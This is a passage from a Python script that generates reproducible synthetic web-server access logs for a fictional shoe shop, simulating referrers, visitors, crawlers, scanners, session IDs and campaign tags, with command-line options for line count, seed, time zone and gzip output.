            (1, lambda: f"https://{self.instances()}/@{token(R, R.randint(4, 10), 'abcdefghijklmnopqrstuvwxyz_')}/{R.getrandbits(56)}"),
            (3, lambda: R.choice(["https://mail.google.com/", "android-app://com.google.android.gm/", "https://outlook.live.com/",
                                  "https://mail.yahoo.com/", "https://email.t-online.de/em", "https://navigator.web.de/",
                                  "https://3c.gmx.net/mail/client/dereferrer"])),
            (16, self.other_site), (2, lambda: pick_w(R, EXTERNAL_REFERRERS)),
            (1, lambda: f"https://{R.choice(['de', 'en', 'fr', 'nl'])}.wikipedia.org/wiki/{R.choice(['Schuh', 'Sneaker', 'Stiefel', 'Sandale', 'Laufschuh', 'Shoe', 'Chelsea_boot', 'Wanderschuh'])}"),
            (0.5, lambda: f"https://news.ycombinator.com/item?id={42000000 + skew(R, 900000, 2)}"),
            (1, lambda: R.choice(["https://chatgpt.com/", "https://copilot.microsoft.com/", "https://gemini.google.com/"])),
            (0.5, lambda: f"http://{R.choice(BOT_WORDS)}-{R.choice(['traffic', 'seo', 'buttons', 'share', 'top'])}.{R.choice(['xyz', 'top', 'ru', 'info'])}/"),
            (0.3, lambda: R.choice(["http://localhost:8080/test.html", "http://192.168.178.1/", "http://intranet.example.local/links.html",
                                    "file:///C:/Users/anna/Desktop/links.html"])),
        ])

    def simple(self, pattern, encode, bare_share, bare):
        R = self.R

        def make():
            if bare and R.random() < bare_share:
                return bare
            return pattern.format(encode(self.term()))
        return make

    def google(self):
        R = self.R
        tld = R.choice(["de", "de", "de", "com", "com", "at", "ch", "co.uk", "fr", "nl", "es", "it", "pl", "com.br", "ca", "be"])
        r = R.random()
        if r < 0.7:  # the query hidden, as modern Google does
            return f"https://www.google.{tld}/"
        t = self.term()
        if r < 0.86:
            return f"https://www.google.{tld}/search?q={enc_plus(t)}&sca_esv={SCA[skew(R, len(SCA), 1.5)]}&source=hp"
        if r < 0.92:
            return f"https://www.google.{tld}/url?sa=t&rct=j&q={enc_plus(t)}&esrc=s&source=web&cd={1 + skew(R, 20, 2)}"
        if r < 0.95:
            return f"https://images.google.{tld}/"
        return f"http://www.google.{tld}/search?hl=de&q={enc_latin(t)}&btnG=Google-Suche&meta="

    def bing(self):
        R = self.R
        if R.random() < 0.25:
            return "https://www.bing.com/"
        return f"https://www.bing.com/search?q={enc_plus(self.term())}&form={R.choice(['QBLH', 'ANNTH1', 'QBRE'])}&sp=-1"

    def yahoo(self):
        R = self.R
        host = R.choice(["search.yahoo.com", "de.search.yahoo.com", "fr.search.yahoo.com", "uk.search.yahoo.com"])
        if R.random() < 0.2:
            return f"https://{host}/"
        return f"https://{host}/search?p={enc_plus(self.term())}&fr=yfp-t"

    def search(self):
        ref = self.engine()()
        return ref, ref.startswith("https://www.google.") and "q=" in ref and self.R.random() < 0.5

    def google_ad(self):
        return f"https://www.google.de/search?q={enc_plus(self.term())}&hl=de"

    def external(self):
        return self.kind()()

    def facebook(self):
        R = self.R
        r = R.random()
        if r < 0.75:
            return R.choice(["https://www.facebook.com/", "https://m.facebook.com/"])
        u = urllib.parse.quote("https://www.example.com/" + R.choice(["", "sale/", "blog/", "sneakers/", "boots/"]), safe="")
        return f"https://{R.choice(['l', 'lm'])}.facebook.com/l.php?u={u}&h=AT{token(R, 30)}"

    def instagram(self):
        R = self.R
        if R.random() < 0.7:
            return "https://www.instagram.com/"
        return f"https://l.instagram.com/?u=https%3A%2F%2Fwww.example.com%2F&e=AT{token(R, 40)}"

    def reddit(self):
        ref = self.threads()
        return ref.replace("https://www.", "https://old.") if self.R.random() < 0.1 else ref

    def other_site(self):
        R = self.R
        d = self.sites()
        r = R.random()
        if r < 0.3:
            return f"https://{d}/"
        if r < 0.55:
            return f"https://{d}/{self.posts()}"
        if r < 0.75:
            return f"https://forum.{d}/viewtopic.php?t={100 + skew(R, 400, 1.5)}&start={20 * skew(R, 10, 2)}"
        if r < 0.88:
            return f"http://www.{d}/{R.choice(['links', 'partner', 'shops', 'empfehlungen'])}.html"
        return f"https://www.{d}/vergleich?kat={R.choice(['sneaker', 'stiefel', 'sandalen', 'laufschuhe'])}&page={1 + skew(R, 8, 2)}"


class RealGenerator(Generator):
    """The shop's log with the variety of a public site (see the section above)."""

    def __init__(self, lines, seed, days, start, tz):
        super().__init__(lines, seed, days, start, tz)
        self.real = True
        self.stay = 0.58
        R = self.rng
        self.maker = AgentMaker(R)
        self.refs = RealReferrers(R, SearchTerms(R))
        self.extend_site()

        # Visitors: kind 0 a fixed IPv4 address, 1 a mobile network handing out a new address
        # now and then, 2 an IPv6 network whose interface part changes daily, 3 a host name.
        n = max(8, lines // 10)
        nets4 = weighted(R, [(w / len(nets.split()), p) for w, _, nets in IPV4_NETS for p in nets.split()])
        nets6 = weighted(R, IPV6_NETS)
        self.v_kind = bytearray(n)
        self.v_net = [0] * n
        self.v_host = [""] * n
        self.v_day = [-1] * n
        self.v_agent = [0] * n
        self.v_shared = bytearray(n)
        self.v_seen = bytearray(n)
        prefix64 = 0
        for i in range(n):
            r = R.random()
            if r < 0.13:
                self.v_kind[i] = 2
                if i == 0 or R.random() > 0.25:  # else another device of the household before
                    prefix64 = (nets6() << 32) | (R.getrandbits(16) << 16) | (skew(R, 256, 1.5) if R.random() < 0.6 else R.getrandbits(16))
                self.v_net[i] = prefix64
            elif r < 0.145:
                self.v_kind[i] = 3
                a, b, c, d = random_ipv4(R)
                pat = R.choice(HOSTNAME_PATTERNS + ["{a}-{b}-{c}-{d}.dyn.example.{tld}", "dslb-{a}-{b}-{c}-{d}.pools.example.{tld}",
                                                    "{hex}.dip{k}.example.{tld}", "static.{d}.{c}.{b}.{a}.clients.example.{tld}"])
                self.v_host[i] = pat.format(a=a, b=b, c=c, d=d, hex=f"{a:02X}{b:02X}{c:02X}{d:02X}", n=R.randint(1, 99),
                                            k=R.randint(0, 9), tld=R.choice(NAME_TLDS))
            else:
                net = nets4() if R.random() < 0.75 else "{}.{}".format(*random_ipv4(R)[:2])
                if r < 0.50:
                    self.v_kind[i] = 1
                    self.v_net[i] = net
                self.v_host[i] = f"{net}.{R.getrandbits(8)}.{1 + R.getrandbits(8) % 254}"
            self.v_agent[i] = self.maker.make()
            self.v_shared[i] = R.random() < 0.02
        for i in range(max(1, n // 5000)):
            self.v_shared[R.randrange(n)] = 1
            self.v_host[i * 4999 % n] = ["host.example.de", "proxy.example-university.de", "gw.example-firm.ch"][i % 3]

        # Spiders: the big ones from their own networks, other crawlers and a long tail of small ones.
        kinds = []
        for w, uas, prefixes, namepat in SPIDERS:
            uas = list(uas)
            if "Googlebot/2.1" in uas[0]:
                uas += [uas[1].replace("130.0.6723.116", v) for v in GOOGLEBOT_CHROME]
                uas += ["Googlebot-Image/1.0", "Googlebot-Video/1.0", "Mozilla/5.0 (compatible; Googlebot-News)"]
            # Big crawlers fetch from many addresses of their networks.
            addrs = [f"{R.choice(prefixes)}.{R.randint(1, 254)}" for _ in range(max(3, w * lines // 150000))]
            if namepat:
                for k in range(0, len(addrs), 2):
                    a, b, c, d = addrs[k].split(".")
                    addrs[k] = namepat.format(a=a, b=b, c=c, d=d)
            kinds.append((w, (uas, addrs)))
        for w, ua in CRAWLERS:
            uas = [ua.format(v=v, c=f"{m}.0.{chrome_build(m)}.{v}") for v, m in ((R.randint(1, 99), m) for m in (129, 130, 131))]
            net = random_ipv4(R)
            addrs = [f"{net[0]}.{net[1]}.{R.randint(0, 255) if w > 2 else net[2]}.{R.randint(1, 254)}"
                     for _ in range(max(2, w * lines // 250000))]
            kinds.append((w * 0.9, (uas, addrs)))
        tail = 200 + lines // 3000
        for i in range(tail):
            name = R.choice(BOT_WORDS).capitalize() + R.choice(BOT_WORDS).capitalize() + R.choice(BOT_ENDS)
            home = f"https://{name.lower().replace('-', '')}.{R.choice(TLDS)}/{R.choice(['bot', 'crawler', 'about', 'robot.html', ''])}"
            ver = f"{skew(R, 4, 1.5)}.{R.randint(0, 12)}"
            ua = R.choice([f"Mozilla/5.0 (compatible; {name}/{ver}; +{home})", f"{name}/{ver} (+{home})",
                           f"Mozilla/5.0 (compatible; {name}/{ver}; {home}; bot@{home.split('/')[2]})"])
            a, b, c, _ = random_ipv4(R)
            kinds.append((25.0 / (i + 5), ([ua], [f"{a}.{b}.{c}.{R.randint(1, 254)}"])))
        self.spider_pick = weighted(R, kinds)

        self.feed_readers = [(w, (ua, R.randint(1, 400), R.randint(1000, 999999), f"{a}.{b}.{c}.{d}"))
                             for w, ua in FEED_READERS for a, b, c, d in [random_ipv4(R)]]
        self.monitor_hosts = [(w, (ua, [".".join(map(str, random_ipv4(R))) for _ in range(R.randint(1, 4))]))
                              for w, ua in MONITORS]
        self.feed_pick = weighted(R, self.feed_readers)
        self.monitor_pick = weighted(R, self.monitor_hosts)
        self.tool_pick = weighted(R, [(w, entry) for w, *entry in TOOLS])
        self.preview_pick = weighted(R, PREVIEWERS)

    def extend_site(self):
        R = self.rng
        s = self.site
        colours = ["red", "blue", "black", "white", "green", "grey", "brown", "navy", "beige", "olive", "pink", "sand"]
        styles = ["runner", "classic", "trail", "city", "high-top", "chelsea", "hiking", "slip-on", "canvas",
                  "leather", "loafer", "derby", "clog", "mule", "court", "platform"]
        seen = set(p.url for p in s.products)
        for c in ["women", "men", "outlet", "slippers", "sport", "vegan", "wide-fit", "accessories"]:
            prods = []
            for _ in range(45):
                while True:
                    slug = f"{R.choice(colours)}-{R.choice(styles)}-{R.randint(1, 99)}"
                    url = f"/{c}/{slug}.html"
                    if url not in seen:
                        seen.add(url)
                        break
                imgs = [(f"/images/products/{slug}-{i}.jpg", R.randint(38000, 190000)) for i in range(1, R.randint(2, 5) + 1)]
                prods.append(Page(url, "prod", R.randint(18000, 42000), imgs))
            s.products.extend(prods)
            thumbs = [(f"/images/thumbs/{p.url.rsplit('/', 1)[1][:-5]}.webp", R.randint(4000, 14000)) for p in prods[:8]]
            s.cats.append(Page(f"/{c}/", "cat", R.randint(22000, 36000), thumbs))
        R.shuffle(s.products)
        brands = [Page(f"/brands/{b}/", "cat", R.randint(15000, 26000), [(f"/images/brands/{b}.svg", R.randint(2000, 9000))])
                  for b in ["alpina", "bergfex", "citywalk", "dune", "elbe", "fjord", "gecko", "holm", "isar", "jura",
                            "kiel", "lumen", "moor", "nordwand", "oase", "pfad", "quell", "rhein", "saale", "tal"]]
        s.cats.extend(brands)
        s.items.extend(Page(f"/shop/item.php?item={i}", "item", R.randint(16000, 30000),
                            [(f"/images/items/{i}.jpg", R.randint(30000, 120000))], True) for i in range(121, 501))
        s.all_pages = ([s.home, s.blog_index] + s.cats + s.products + s.blog + s.info + [s.contact, s.cart] + s.items)
        # Style sheets and scripts named by a hash of their content: a new name with each release.
        self.releases = []
        for k in range(self.days * 2 + 2):
            h = lambda: f"{R.getrandbits(32):08x}"
            self.releases.append([(f"/assets/site.{h()}.css", R.randint(45000, 52000)),
                                  (f"/assets/vendor.{h()}.js", R.randint(85000, 90000)),
                                  (f"/assets/app.{h()}.js", R.randint(30000, 36000)),
                                  ("/images/logo.svg", 6120), (f"/images/sprite.png?v={k + 40}", 24551),
                                  ("/fonts/opensans-regular.woff2", 63980), ("/favicon.ico", 5430)])

    def asset_url(self, url, ua):
        """Product pictures in the width the visitor's screen asks for (the page offers several)."""
        if url.startswith("/images/products/") and url[-6:] in ("-1.jpg", "-2.jpg", "-3.jpg") and self.rng.random() < 0.6:
            widths = (320, 480, 640) if "Mobile" in ua else (640, 960, 1280, 1920)
            return f"{url[:-4]}-{self.rng.choice(widths)}w.webp"
        return url

    def site_base(self):
        R = self.rng
        if R.random() < 0.9:
            return "https://www.example.com"
        return R.choice(["http://www.example.com", "https://example.com", "http://example.com"])

    def common_assets(self, t):
        return self.releases[min(len(self.releases) - 1, t // (DAY // 2))]

    def pick_visitor(self, t):
        R = self.rng
        n = len(self.v_kind)
        i = int(n * R.random() ** 1.15)
        kind = self.v_kind[i]
        day = t // DAY
        if kind == 1 and (not self.v_seen[i] or R.random() < 0.75):
            self.v_host[i] = f"{self.v_net[i]}.{R.getrandbits(8)}.{1 + R.getrandbits(8) % 254}"
        elif kind == 2 and self.v_day[i] != day:
            if not self.v_host[i] or R.random() < 0.85:
                if R.random() < 0.15:  # an address made from the hardware address
                    iid = (R.getrandbits(24) << 40) | (0xfffe << 24) | R.getrandbits(24)
                else:
                    iid = R.getrandbits(64)
                self.v_host[i] = ipv6_text((self.v_net[i] << 64) | iid)
        self.v_day[i] = day
        ai = self.maker.make() if self.v_shared[i] else self.v_agent[i]
        returning = self.v_seen[i]
        self.v_seen[i] = 1
        return self.v_host[i], self.maker.agents[ai], self.maker.ios[ai], returning

    def session_id(self):
        R = self.rng
        if R.random() >= 0.045:
            return None
        name, form = pick_w(R, [(30, ("PHPSESSID=", "php")), (14, ("sid=", "hex")), (8, ("jsessionid=", "java")),
                                (4, ("JSESSIONID=", "java")), (6, ("osCsid=", "hex")), (5, ("zenid=", "php")),
                                (4, ("XTCsid=", "php")), (3, ("sessionid=", "hex")), (3, ("session_id=", "hex")),
                                (2, ("sessid=", "hex"))])
        if form == "php":
            value = token(R, 26, "abcdefghijklmnopqrstuv0123456789") if R.random() < 0.6 else f"{R.getrandbits(128):032x}"
        elif form == "java":
            value = f"{R.getrandbits(128):032X}" + (f".node{R.randint(0, 3)}" if R.random() < 0.3 else "")
        else:
            value = f"{R.getrandbits(128):032x}" if R.random() < 0.7 else f"{R.getrandbits(48):012x}"
        return name + value

    def page_url(self, page):
        R = self.rng
        url = page.url
        kind = page.kind
        if kind == "cat" and R.random() < 0.1:
            q = []
            if R.random() < 0.35:
                q.append(f"size={36 + skew(R, 12, 1.1)}")
            if R.random() < 0.3:
                q.append(f"colour={R.choice(['red', 'black', 'white', 'blue', 'brown', 'grey', 'green', 'navy'])}")
            if R.random() < 0.12:
                q.append(f"price={R.choice(['0-50', '50-100', '100-150', '150-'])}")
            if R.random() < 0.3:
                q.append(f"sort={R.choice(['price_asc', 'price_desc', 'newest', 'popular', 'rating'])}")
            if R.random() < 0.35 or not q:
                q.append(f"page={2 + skew(R, 24, 2)}")
            return url + "?" + "&".join(q)
        if kind == "prod" and R.random() < 0.03:
            return url + R.choice(["?size=", "?variant=", "?colour="]) + str(36 + skew(R, 12, 1.2))
        if kind == "item" and R.random() < 0.04:
            return f"{url}&{R.choice(['size', 'variant'])}={36 + skew(R, 12, 1.2)}"
        if kind == "blog" and R.random() < 0.06:
            return url + (f"?replytocom={R.randint(100, 9999)}" if R.random() < 0.6 else "?amp=1")
        if kind == "home" and R.random() < 0.05:
            return R.choice(["/?lang=en", "/?lang=fr", "/?lang=nl", "/index.php", "/?ref=pwa", "/?s="])
        return url

    def search_page(self):
        R = self.rng
        # The shop's own search box gets short queries more often than search engines do.
        t = self.refs.term() if R.random() < 0.5 else TERM_WORDS["what"][skew(R, len(TERM_WORDS["what"]), 1.5)]
        url = "/search.php?q=" + enc_plus(t)
        if R.random() < 0.15:
            url += f"&page={2 + skew(R, 8, 2)}"
        return Page(url, "search", 9000 + 37 * len(t), [], True)

    def landing_tags(self, url, ref, gclid):
        """Click and campaign tags that ads, newsletters and social sites add to the first link."""
        R = self.rng
        sep = "&" if "?" in url else "?"
        r = R.random()
        if ("facebook." in ref or "instagram." in ref) and r < 0.22:
            return f"{url}{sep}fbclid=IwAR{token(R, 56)}"
        if "bing.com" in ref and r < 0.12:
            return f"{url}{sep}msclkid={R.getrandbits(128):032x}"
        if ref == "-" and r < 0.05:
            week = 40 + skew(R, 8, 1)
            tags = f"utm_source=newsletter&utm_medium=email&utm_campaign=nl-2026-kw{week}"
            if R.random() < 0.3:
                tags += f"&mc_cid={R.getrandbits(40):010x}&mc_eid={R.getrandbits(40):010x}"
            return f"{url}{sep}{tags}"
        if r < 0.025:
            source, medium = R.choice([("facebook", "social"), ("instagram", "social"), ("pinterest", "social"),
                                       ("google", "cpc"), ("partner", "affiliate"), ("tiktok", "paid_social")])
            campaign = R.choice(["black-friday-2026", "autumn-sale", "winter-boots", "retargeting", "brand"])
            extra = f"&utm_content={R.choice(['carousel', 'story', 'banner', 'text'])}-{skew(R, 8, 1.5)}" if R.random() < 0.5 else ""
            return f"{url}{sep}utm_source={source}&utm_medium={medium}&utm_campaign={campaign}{extra}"
        return url

    def misc_session(self, t):
        R = self.rng
        r = R.random()
        emit = self.emit
        s = self.site
        a, b, c, d = random_ipv4(R)
        host = f"{a}.{b}.{c}.{d}"
        if r < 0.15:
            x = R.random()
            ua = self.maker.agents[self.maker.make()] if x < 0.5 else (R.choice(SCANNER_AGENTS) if x < 0.8 else self.maker.odd()[0])
            emit(t, host, "GET", "/", 200, s.home.size, "-", ua)
            proto = "HTTP/1.1" if R.random() < 0.7 else "HTTP/1.0"
            for _ in range(R.randint(3, 25)):
                t += R.randint(0, 2)
                if R.random() < 0.65:
                    path = R.choice(SCANNER_PATHS)
                else:
                    path = "/" + "/".join(SCANNER_WORDS[skew(R, len(SCANNER_WORDS), 1.3)] for _ in range(R.randint(1, 2)))
                    path += R.choice(SCANNER_EXTS)
                method = "POST" if path == "/xmlrpc.php" and R.random() < 0.5 else "GET"
                emit(t, host, method, path, 404, R.choice([196, 209, 1214]), "-", ua, proto)
        elif r < 0.45:
            ua, hosts = self.monitor_pick()
            host = R.choice(hosts)
            for _ in range(R.randint(1, 6)):
                emit(t, host, "HEAD" if R.random() < 0.7 else "GET", "/", 200, "-", "-", ua)
                t += 300
        elif r < 0.62:
            ua, subscribers, ident, host = self.feed_pick()
            # Subscriber counts move a little from day to day.
            n = max(1, subscribers + (t // DAY) * (subscribers // 50 + 1) + R.randint(-2, 2))
            ua = ua.format(n=n, id=ident, v=R.randint(0, 9))
            for _ in range(R.randint(1, 3)):
                ok = R.random() < 0.4
                emit(t, host, "GET", "/blog/feed.xml", 200 if ok else 304, 28411 if ok else "-", "-", ua)
                t += R.randint(1, 5)
        elif r < 0.72:
            ua = self.preview_pick().format(a=R.randint(23, 24), b=R.randint(1, 25), c=R.randint(0, 99),
                                            d=R.choice(["A", "i", "N"]), host=self.refs.instances())
            p = R.choice(s.all_pages)
            emit(t, host, "GET", p.url, 200, p.size, "-", ua)
            if p.assets:
                emit(t + 1, host, "GET", p.assets[0][0], 200, p.assets[0][1], "-", ua)
        elif r < 0.78:
            for _ in range(R.randint(2, 12)):
                p = R.choice(s.all_pages)
                emit(t, host, "HEAD", p.url, 200, "-", "-", CHECKER_AGENT)
                t += 1
        elif r < 0.99:
            pattern, (a0, a1), (b0, b1), (c0, c1) = self.tool_pick()
            ua = pattern.format(a=R.randint(a0, a1), b=R.randint(b0, b1), c=R.randint(c0, c1))
            url, size = R.choice(s.downloads) if R.random() < 0.5 else (R.choice(s.all_pages).url, s.home.size)
            emit(t, host, "GET", url, 200, size, "-", ua, "HTTP/1.1" if R.random() < 0.6 else "HTTP/1.0")
        else:
            self.out.append((t, f'{host} - - {self.dayp[t // DAY]}{self.hms[t % DAY]} "-" 408 - "-" "-"\n'))
        return t


class Stats:
    """Counts the lines written and the distinct clients, links, referrers and agents among them."""

    def __init__(self):
        self.lines = 0
        self.fields = [set(), set(), set(), set()]

    def add(self, data):
        clients, urls, refs, agents = self.fields
        for line in data.split(b"\n"):
            if not line:
                continue
            self.lines += 1
            clients.add(line[:line.find(b" ")])
            q = line.find(b'"')
            e = line.find(b'"', q + 1)
            request = line[q + 1:e].split(b" ")
            if q >= 0 and len(request) >= 2:
                urls.add(request[1])
            end = line.rfind(b'" "')
            if end > e and line.endswith(b'"'):
                agents.add(line[end + 3:-1])
                refs.add(line[line.rfind(b'"', 0, end) + 1:end])

    def report(self):
        clients, urls, refs, agents = self.fields
        return (f"lines {self.lines}\nagents {len(agents)}\nclients {len(clients)}\n"
                f"urls {len(urls)}\nreferrers {len(refs)}\n")


def parse_args(argv):
    ap = argparse.ArgumentParser(description="Write a seeded, realistic access log (Apache combined format).")
    ap.add_argument("--lines", type=int, required=True, help="number of lines to write")
    ap.add_argument("--seed", type=int, required=True, help="random seed; same seed, same bytes")
    ap.add_argument("--days", type=int, default=7, help="days covered (default 7)")
    ap.add_argument("--start", default="2026-11-02", help="first day, yyyy-mm-dd (default 2026-11-02)")
    ap.add_argument("--tz", default="+0100", help="time-zone field of every line (default +0100)")
    ap.add_argument("--gzip", action="store_true", help="write gzip-compressed output")
    ap.add_argument("--variety", choices=["low", "real"], default="low",
                    help="low: a few hundred agents and a small site (default); real: the long tails of a "
                         "public site (about 10,000 agents and 50,000 clients in a million lines)")
    ap.add_argument("--stats", action="store_true",
                    help="print the distinct agents, clients, links and referrers written to standard error")
    ap.add_argument("-o", "--output", required=True, help="output file, or - for standard output")
    a = ap.parse_args(argv)
    if a.lines < 0:
        ap.error("--lines must not be negative")
    if a.days < 1:
        ap.error("--days must be at least 1")
    try:
        a.start = datetime.date.fromisoformat(a.start)
    except ValueError:
        ap.error("--start must be yyyy-mm-dd")
    if len(a.tz) != 5 or a.tz[0] not in "+-" or not a.tz[1:].isdigit():
        ap.error("--tz must look like +0100")
    return a


def main(argv=None):
    a = parse_args(sys.argv[1:] if argv is None else argv)
    gen = (RealGenerator if a.variety == "real" else Generator)(a.lines, a.seed, a.days, a.start, a.tz)
    stats = Stats() if a.stats else None
    raw = sys.stdout.buffer if a.output == "-" else open(a.output, "wb")
    try:
        if a.gzip:
            # No file name and a zero time stamp in the header keep the bytes reproducible.
            sink = gzip.GzipFile(filename="", mode="wb", fileobj=raw, compresslevel=6, mtime=0)
        else:
            sink = raw
        if a.lines:
            if stats:
                def write(data):
                    stats.add(data)
                    sink.write(data)
                gen.run(write)
            else:
                gen.run(sink.write)
        if a.gzip:
            sink.close()
    finally:
        if raw is not sys.stdout.buffer:
            raw.close()
        else:
            raw.flush()
    if stats:
        sys.stderr.write(stats.report())
    return 0


if __name__ == "__main__":
    sys.exit(main())
